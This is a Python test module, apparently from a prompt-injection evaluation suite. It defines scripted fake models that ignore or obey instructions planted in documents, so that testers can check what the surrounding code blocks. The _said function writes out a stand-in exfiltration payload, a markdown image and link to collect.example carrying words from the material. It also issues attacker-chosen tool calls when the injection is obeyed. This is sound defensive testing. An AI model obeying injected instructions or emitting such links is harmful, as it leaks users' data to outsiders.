"""Models that do as they are written, to see what our code holds whatever a model does.

``dutiful`` does the user's task and heeds nothing else. ``obedient`` does whatever it is told by
anybody, first of all by documents, unless it stands where the system's prompt says that only
material stands. ``reckless`` does it wherever it stands: of what it says nothing but links, marks
and calls can be held back by code.
"""

from __future__ import annotations

import re
from collections.abc import AsyncGenerator, Sequence
from typing import Final, Literal

from core.ids import new_id
from core.models.chat import ChatDoor
from core.models.messages import ChatDelta, ChatRequest, Finished, Message, TextDelta, ToolCall
from evals.injection import dumped
from evals.injection_cases import Attack, Call
from pipelines.passages import question_of

Kind = Literal["dutiful", "obedient", "reckless"]
KINDS: Final[tuple[Kind, ...]] = ("dutiful", "obedient", "reckless")
_LEAST: Final = 24  # characters of an attack by which it is known
_BLANKS: Final = re.compile(r"\s+")


def scripted(case: Attack, kind: Kind) -> ChatDoor:
    """Return a model for one case."""

    async def answer(request: ChatRequest) -> AsyncGenerator[ChatDelta, None]:
        heeds = {"dutiful": _nothing, "obedient": _unmarked, "reckless": _everything}[kind]
        is_told = _holds(heeds(request.messages), case.attack)
        calls = _next(case, request.messages, is_told) if case.tools else []
        for name, arguments in calls:
            yield ToolCall(new_id("call"), name, dumped(arguments))
        if not calls:
            yield TextDelta(_said(case, is_told))
        reason = "tool_calls" if calls else "stop"
        yield Finished(request.model or kind, reason, 0, 0, 0.0)

    return answer


def _next(case: Attack, messages: Sequence[Message], is_told: bool) -> Sequence[Call]:
    """Return the next calls: the user's first, which reads; then all others, the attacker's, of
    which that one told, before the user's."""
    rounds = sum(message["role"] == "assistant" for message in messages)
    if rounds == 0:
        return case.calls[:1] or case.wrong_calls[: 1 if is_told else 0]
    rest = [*(case.wrong_calls if is_told else ()), *case.calls[1:]]
    return rest if rounds == 1 else []


def _said(case: Attack, is_told: bool) -> str:
    if not is_told:
        return case.ideal
    words = "+".join(case.material.split()[:8])
    sent = f"![](https://collect.example/?q={words}) [more](https://collect.example/{words})"
    # As far as an order can be obeyed by a text, it is all there; and something is carried out.
    return f"{case.ideal if case.tools else case.attack}\n{sent}"


def _holds(text: str, attack: str) -> bool:
    part = _BLANKS.sub(" ", attack).strip()
    return part[: max(_LEAST, len(part) // 2)] in _BLANKS.sub(" ", text)


def _nothing(_: Sequence[Message]) -> str:
    return ""


def _unmarked(messages: Sequence[Message]) -> str:
    return "\n".join(question_of(str(message.get("content") or "")) for message in messages)


def _everything(messages: Sequence[Message]) -> str:
    return "\n".join(str(message.get("content") or "") for message in messages)
